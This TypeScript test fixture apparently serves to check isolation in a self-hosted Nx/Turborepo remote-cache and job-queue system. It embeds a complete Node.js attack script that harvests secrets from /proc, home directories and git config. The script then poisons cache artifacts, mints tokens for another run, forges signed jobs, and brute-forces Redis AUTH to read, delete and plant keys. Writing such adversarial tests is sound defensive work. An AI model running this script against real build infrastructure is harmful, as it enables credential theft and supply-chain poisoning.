/**
 * tools/attack.js: an untrusted task that tries every credential it can read. Sources: its own
 * environment; `/proc/<pid>/environ` and `cmdline` of each ancestor up to the `fleet agent`
 * process; every file (depth 4, node_modules and git objects left out) under its HOME, its
 * checkout, each ancestor's HOME and cwd, and the folders named by `--workdir` and
 * `--public-key-file` in the agent's argv; `git config --list`. From all of it it takes
 * token-like strings, PEM blocks and Redis URLs, and then:
 * - PUTs to the cache server with each (Nx API and Turborepo API), to the hashes the test named
 *   (one read by trusted readers, one by another untrusted run);
 * - asks the server to mint a run token with each, for the other run's identity, and PUTs with
 *   every token it got;
 * - enqueues jobs into the trusted level's queue through each Redis URL: unsigned, signed with
 *   every PEM private key it found, and with each credential as an HMAC secret (round one's scheme);
 * - talks to Redis itself at every endpoint it knows (the URLs it found, port 6379, the test's
 *   port): without a credential and after AUTH with each one (URL passwords, `requirepass` values
 *   in any process's argv, every token-like string), it reads a trusted run's keys, deletes its
 *   patch and a trusted job, and adds keys next to them.
 * Besides its ancestors it reads the argv of every process (/proc/<pid>/cmdline is world-readable).
 * It prints `ATTACK-REPORT {json}` with what it tried and what was accepted.
 */
const ATTACK_JS = `const fs = require('fs'), path = require('path'), cp = require('child_process'), crypto = require('crypto');
const pool = process.argv[2];
const targets = JSON.parse(fs.readFileSync('libs/attack-' + pool + '/targets.json', 'utf8'));
const report = { pool, uid: process.getuid(), sources: 0, sourcesRead: 0, filesTried: 0, filesRead: 0, credentials: 0, pems: 0, redisUrls: 0, puts: 0, mints: 0, minted: 0, jobs: 0, accepted: [], readable: [], envSecrets: Object.keys(process.env).filter((k) => /^FLEET_/.test(k) && /(SECRET|TOKEN|KEY|KEYS|REDIS_URL|PASSWORD)(_FILE)?$/.test(k)), redis: [] };
const texts = [];
const add = (where, text) => { report.sources++; if (text) { report.sourcesRead++; texts.push({ where, text }); } };
const tryRead = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return undefined; } };
add('env', Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));
const dirs = new Set([process.env.HOME, process.cwd()]);
for (let pid = process.ppid; pid > 1; ) {
  const environ = tryRead('/proc/' + pid + '/environ');
  const cmdline = tryRead('/proc/' + pid + '/cmdline') || '';
  add('/proc/' + pid + '/environ', environ && environ.split('\\0').join('\\n'));
  add('/proc/' + pid + '/cmdline', cmdline.split('\\0').join(' '));
  if (environ) report.readable.push('/proc/' + pid + '/environ');
  const home = environ && /(?:^|\\0)HOME=([^\\0]*)/.exec(environ);
  if (home) dirs.add(home[1]);
  try { dirs.add(fs.readlinkSync('/proc/' + pid + '/cwd')); } catch {}
  const argv = cmdline.split('\\0');
  for (const flag of ['--workdir', '--public-key-file']) { const i = argv.indexOf(flag); if (i >= 0) dirs.add(flag === '--workdir' ? argv[i + 1] : path.dirname(argv[i + 1])); }
  if (argv.includes('agent')) break;
  const status = tryRead('/proc/' + pid + '/status') || '';
  pid = Number((/PPid:\\s+(\\d+)/.exec(status) || [])[1] || 0);
}
// Every process's argv is world-readable: a password on any command line (a Redis URL, redis-server's --requirepass) is found here.
const procTexts = [];
for (const pid of fs.readdirSync('/proc').filter((d) => /^[0-9]+$/.test(d))) {
  const cmdline = tryRead('/proc/' + pid + '/cmdline');
  if (cmdline) procTexts.push(cmdline.split('\\0').join(' '));
}
report.procCmdlines = procTexts.length;
const walk = (dir, depth) => {
  let entries; try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { report.filesTried++; return; }
  for (const e of entries) {
    const f = path.join(dir, e.name);
    if (e.isDirectory()) { if (depth < 4 && e.name !== 'node_modules' && e.name !== 'objects') walk(f, depth + 1); continue; }
    if (!e.isFile()) continue;
    report.filesTried++;
    let st; try { st = fs.statSync(f); } catch { continue; }
    if (st.size > 1 << 20) continue;
    const t = tryRead(f);
    if (t !== undefined) { report.filesRead++; texts.push({ where: f, text: t }); }
  }
};
for (const d of dirs) if (d) walk(d, 0);
const gc = cp.spawnSync('git', ['config', '--list', '--show-origin'], { encoding: 'utf8' });
add('git config', gc.stdout);
const creds = new Map(), pems = new Set(), redisUrls = new Set();
for (const { where, text } of texts) {
  for (const m of text.matchAll(/-----BEGIN [A-Z ]+-----[\\s\\S]+?-----END [A-Z ]+-----/g)) pems.add(m[0]);
  for (const m of text.matchAll(/rediss?:\\/\\/[^\\s\\0"'\\\\]+/g)) redisUrls.add(m[0]);
  for (const m of text.matchAll(/[A-Za-z0-9_\\-]{16,}(?:\\.[A-Za-z0-9_\\-]{16,})?/g)) if (!creds.has(m[0])) creds.set(m[0], where);
}
// In scope: the test's Redis (and 6379). URLs of other Redis servers on this machine (other test
// clusters) are counted, never used: the attack must not disturb what it does not target.
const testPort = Number(fs.readFileSync(targets.redisPortFile, 'utf8'));
const redisPasswords = new Set();
for (const text of procTexts) {
  for (const m of text.matchAll(/rediss?:\\/\\/[^\\s\\0"'\\\\]+/g)) redisUrls.add(m[0]);
  for (const m of text.matchAll(/requirepass\\s+"?([^\\s"]+)/g)) redisPasswords.add(m[1]);
}
const inScope = (u) => { try { const x = new URL(u); return Number(x.port || 6379) === testPort || Number(x.port || 6379) === 6379; } catch { return false; } };
report.redisUrlsOutOfScope = [...redisUrls].filter((u) => !inScope(u)).length;
for (const u of [...redisUrls]) if (!inScope(u)) redisUrls.delete(u);
Object.assign(report, { credentials: creds.size, pems: pems.size, redisUrls: redisUrls.size, redisPasswords: redisPasswords.size });
const cache = process.env.NX_SELF_HOSTED_REMOTE_CACHE_SERVER;
const put = async (route, hash, token, via) => {
  report.puts++;
  const url = cache + (route === 'nx' ? '/v1/cache/' : '/v8/artifacts/') + hash;
  const body = Buffer.from('POISON ' + pool + ' ' + hash + ' via ' + via);
  const res = await fetch(url, { method: 'PUT', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/octet-stream' }, body }).catch(() => undefined);
  if (res && (res.status === 200 || res.status === 202)) report.accepted.push({ route, hash, via, status: res.status });
};
const hashes = [targets.mainHash, targets.victimHash];
const tokens = [...creds.entries()].map(([t, where]) => ({ t, via: where }));
for (const { t, via } of tokens) {
  for (const h of hashes) for (const route of ['nx', 'turbo']) await put(route, h, t, via);
  report.mints++;
  const res = await fetch(cache + '/v1/fleet/run-tokens', { method: 'POST', headers: { authorization: 'Bearer ' + t, 'content-type': 'application/json' }, body: JSON.stringify(targets.victim) }).catch(() => undefined);
  if (res && res.status === 200) {
    report.minted++;
    const minted = (await res.json()).token;
    for (const h of hashes) for (const route of ['nx', 'turbo']) await put(route, h, minted, 'minted with ' + via);
  }
}
const { JobQueues, signJob, canonicalRequirement } = require(path.join(path.dirname(require.resolve('nx-fleet/package.json')), 'dist/runner'));
for (const url of redisUrls) {
  for (const trust of ['trusted', 'untrusted']) {
    const queues = new JobQueues({ redisUrl: url, trust });
    let attempt = 1;
    const payload = () => ({ v: 2, trust, runId: targets.jobRunId, taskId: 'p0:build', commit: targets.commit, project: 'p0', target: 'build', requirement: canonicalRequirement(), attempt: attempt++ });
    const jobs = [{ payload: payload(), signature: '' }];
    for (const pem of pems) { try { jobs.push(signJob(payload(), crypto.createPrivateKey(pem))); } catch {} }
    for (const { t } of tokens.slice(0, 50)) { const p = payload(); jobs.push({ payload: p, signature: crypto.createHmac('sha256', t).update(JSON.stringify(p)).digest('hex') }); }
    for (const j of jobs) { await queues.enqueue(j).then(() => report.jobs++, () => undefined); }
    await queues.close();
  }
}
// Redis itself: every endpoint it knows of (the URLs it found, the default port, the test's port),
// without a credential and with every one it found (URL passwords, --requirepass values, tokens).
// A few lines of RESP over a socket: what any task can write, no client library needed.
const respClient = (host, port) => new Promise((resolve, reject) => {
  const sock = require('net').connect(port, host);
  let buf = Buffer.alloc(0);
  const waiters = [];
  const parse = (i) => {
    const eol = buf.indexOf('\\r\\n', i);
    if (eol < 0) return undefined;
    const type = String.fromCharCode(buf[i]), line = buf.toString('utf8', i + 1, eol);
    if (type === '+') return [line, eol + 2];
    if (type === '-') return [{ err: line }, eol + 2];
    if (type === ':') return [Number(line), eol + 2];
    if (type === '$') { const n = Number(line); if (n < 0) return [null, eol + 2]; if (buf.length < eol + 4 + n) return undefined; return [buf.toString('utf8', eol + 2, eol + 2 + n), eol + 4 + n]; }
    if (type === '*') { const n = Number(line), out = []; let j = eol + 2; for (let k = 0; k < n; k++) { const r = parse(j); if (!r) return undefined; out.push(r[0]); j = r[1]; } return [out, j]; }
    return [{ err: 'bad reply' }, buf.length];
  };
  sock.on('data', (d) => { buf = Buffer.concat([buf, d]); for (let r; waiters.length && (r = parse(0)); ) { buf = buf.subarray(r[1]); waiters.shift()(r[0]); } });
  sock.on('error', (e) => { reject(e); while (waiters.length) waiters.shift()({ err: 'closed' }); });
  sock.on('close', () => { while (waiters.length) waiters.shift()({ err: 'closed' }); });
  sock.setTimeout(5000, () => sock.destroy());
  sock.on('connect', () => resolve({
    call: (...args) => new Promise((res, rej) => {
      waiters.push((v) => (v && typeof v === 'object' && 'err' in v ? rej(new Error(v.err)) : res(v)));
      sock.write('*' + args.length + '\\r\\n' + args.map((x) => '$' + Buffer.byteLength(String(x)) + '\\r\\n' + x + '\\r\\n').join(''));
    }),
    disconnect: () => sock.destroy(),
  }));
});
const endpoints = new Map([['127.0.0.1:6379', { host: '127.0.0.1', port: 6379 }], ['127.0.0.1:' + testPort, { host: '127.0.0.1', port: testPort }]]);
const auths = [...redisPasswords].map((p) => [p]);
for (const u of redisUrls) { try { const x = new URL(u); endpoints.set(x.hostname + ':' + (x.port || 6379), { host: x.hostname, port: Number(x.port || 6379) }); if (x.password) auths.push(x.username ? [decodeURIComponent(x.username), decodeURIComponent(x.password)] : [decodeURIComponent(x.password)]); } catch {} }
for (const [t] of creds) auths.push([t]);
const kind = (e) => (/^NOAUTH/.test(e.message) ? 'noauth' : /^WRONGPASS/.test(e.message) ? 'wrongpass' : 'error');
const c = targets.canary;
const ops = [['KEYS', 'fleet:run:*'], ['GET', c.patch], ['XRANGE', c.log, '-', '+'], ['HGETALL', c.run], ['DEL', c.patch], ['DEL', c.job], ['SET', c.planted, 'POISON ' + pool], ['XADD', c.log, '*', 'line', 'POISON ' + pool], ['HSET', c.jobPlanted, 'data', '{}']];
for (const [name, ep] of endpoints) {
  const r = { endpoint: name, reachable: false, auths: 0, authOk: 0, wrongpass: 0, opsTried: 0, opsOk: 0, noauth: 0, otherErrors: 0, readTrustedPatch: false, keysSeen: 0, deleted: 0, planted: 0 };
  report.redis.push(r);
  let client;
  try { client = await respClient(ep.host, ep.port); r.reachable = true; } catch { continue; }
  const runOps = async () => {
    for (const op of ops) {
      r.opsTried++;
      try {
        const v = await client.call(...op);
        r.opsOk++;
        if (op[0] === 'KEYS') r.keysSeen = v.length;
        if (op[0] === 'GET' && v === c.patchValue) r.readTrustedPatch = true;
        if (op[0] === 'DEL') r.deleted += Number(v);
        if (op[0] === 'SET' || op[0] === 'HSET' || op[0] === 'XADD') r.planted++;
      } catch (e) { if (kind(e) === 'noauth') r.noauth++; else r.otherErrors++; }
    }
  };
  await runOps();
  for (const a of auths) {
    r.auths++;
    try { await client.call('AUTH', ...a); r.authOk++; await runOps(); break; } catch (e) { if (kind(e) === 'wrongpass') r.wrongpass++; else r.otherErrors++; }
  }
  client.disconnect();
}
console.log('ATTACK-REPORT ' + JSON.stringify(report));
fs.mkdirSync('libs/attack-' + pool + '/out', { recursive: true });
fs.writeFileSync('libs/attack-' + pool + '/out/report.json', JSON.stringify(report));
`;

export interface AttackTargets {
  mainHash: string;
  victimHash: string;
  victim: { runId: string; commit: string };
  jobRunId: string;
  commit: string;
  /** A file holding the cluster's Redis port: an attacker finds it by scanning loopback; the test saves it the scan. */
  redisPortFile: string;
  /** Keys of a trusted run and a trusted job, seeded by the test: read, deleted or planted next to only with Redis access. */
  canary: {
    run: string;
    log: string;
    patch: string;
    patchValue: string;
    job: string;
    planted: string;
    jobPlanted: string;
  };
}

/** What the task did to one Redis endpoint. */
export interface RedisAttempt {
  endpoint: string;
  reachable: boolean;
  /** AUTH attempts (it stops at the first accepted), accepted, refused with WRONGPASS. */
  auths: number;
  authOk: number;
  wrongpass: number;
  /** Reads, deletions and writes tried (unauthenticated, and after an accepted AUTH), succeeded, refused with NOAUTH. */
  opsTried: number;
  opsOk: number;
  noauth: number;
  otherErrors: number;
  readTrustedPatch: boolean;
  keysSeen: number;
  deleted: number;
  planted: number;
}

export interface AttackReport {
  pool: string;
  uid: number;
  sources: number;
  sourcesRead: number;
  filesTried: number;
  filesRead: number;
  credentials: number;
  pems: number;
  redisUrls: number;
  puts: number;
  mints: number;
  minted: number;
  jobs: number;
  accepted: Array<{ route: string; hash: string; via: string; status: number }>;
  readable: string[];
  /** Names of fleet secret variables in the task's own environment (must be none). */
  envSecrets: string[];
  /** How many processes' argv it read (all of /proc). */
  procCmdlines: number;
  /** Redis URLs found for other Redis servers of the machine (not the test's): counted, not used. */
  redisUrlsOutOfScope: number;
  redisPasswords: number;
  redis: RedisAttempt[];
}

/** Per pool, a project `attack-<pool>` whose `attack` target only that pool's agent runs. */
export function attackFiles(targets: Record<string, AttackTargets>): Record<string, string> {
  const files: Record<string, string> = { 'tools/attack.js': `(async () => {\n${ATTACK_JS}\n})();\n` };
  for (const [pool, t] of Object.entries(targets)) {
    files[`libs/attack-${pool}/targets.json`] = JSON.stringify(t);
    files[`libs/attack-${pool}/project.json`] = JSON.stringify({
      name: `attack-${pool}`,
      root: `libs/attack-${pool}`,
      targets: {
        attack: {
          executor: 'nx:run-commands',
          cache: true,
          inputs: ['{projectRoot}/**/*'],
          outputs: ['{projectRoot}/out'],
          options: { command: `node tools/attack.js ${pool}` },
          metadata: { fleet: { requires: { labels: [`pool-${pool}`] } } },
        },
      },
    });
  }
  return files;
}
